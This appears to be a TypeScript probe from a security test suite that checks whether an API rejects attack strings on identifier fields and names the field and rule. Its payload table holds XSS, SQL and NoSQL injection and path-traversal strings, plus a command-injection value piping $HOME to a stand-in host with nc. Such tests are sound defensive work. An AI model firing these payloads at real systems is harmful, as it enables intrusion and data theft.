import { type Fault, type Probe, undocumented } from "../../probe.ts";
import { judge } from "../../support/judge.ts";
import { inspectedParameters } from "../../support/signals/inspected.ts";
import type { Target } from "../../target.ts";

/** One attack of each class; without "/", which would end a path parameter. */
const ATTACKS: Readonly<Record<string, string>> = {
  xss: '"><svg onload=alert(1)>',
  sqli: "x' or 'a'='a' --",
  nosql: '{"name":{"$ne":null}}',
  command: "x; cat $HOME | nc evil.example 99",
  path: "..\\..\\..\\windows\\win.ini",
};

const problemOf = (text: string): { code?: unknown; details?: unknown } => {
  try {
    return JSON.parse(text) as { code?: unknown; details?: unknown };
  } catch {
    return {};
  }
};

/**
 * From one address some twenty attacks are enough to be blocked (RL-13): there the first parameter
 * gets every class, and each other one of them.
 */
const attacksFor = (index: number, { hasVisitors }: Pick<Target, "hasVisitors">) => {
  const all = Object.entries(ATTACKS);
  return hasVisitors || index === 0 ? all : all.slice(index % 4, (index % 4) + 1);
};

/** VAL-16 */
export const attacksBlocked: Probe = {
  id: "attacks-blocked",
  claim: "Where a field takes identifiers only, an attack of every class is refused by name",
  requirements: ["VAL-08", "VAL-09", "VAL-14", "VAL-16"],
  standard: "OWASP ASVS 5 V2.2.1; OWASP API8:2023",
  owasp: "A03",
  severity: "medium",
  depth: "look",
  remedy: "Leave `inspect` of identifiers at its default, or say `block` for the field.",
  sabotage: "inspect-nothing",
  run: async (target) => {
    const parameters = inspectedParameters(target);
    if (parameters.length === 0) {
      return undocumented(target, "no public route has a blocking field that takes free text");
    }
    const faults: Fault[] = [];
    let checked = 0;
    for (const [index, { name, field, isSegment, pathWith }] of parameters.entries()) {
      for (const [category, attack] of attacksFor(index, target)) {
        if (isSegment && category === "path") continue;
        const answer = await target.visitor().ask(pathWith(attack, target));
        checked += 1;
        const { code, details } = problemOf(answer.text);
        const named = JSON.stringify(details ?? []);
        const isRefused =
          (answer.status === 400 || answer.status === 403) && code === "INPUT_REJECTED";
        if (!isRefused) faults.push({ what: `${name}: ${category} got ${answer.status}`, answer });
        else if (!named.includes(`"${field}"`) || !named.includes(`"${category}.`)) {
          faults.push({ what: `${name}: ${category} is refused without field and rule`, answer });
        }
      }
    }
    return judge({
      faults,
      checked,
      of: "attacks",
      wanted: "400 INPUT_REJECTED, field and rule named",
    });
  },
};
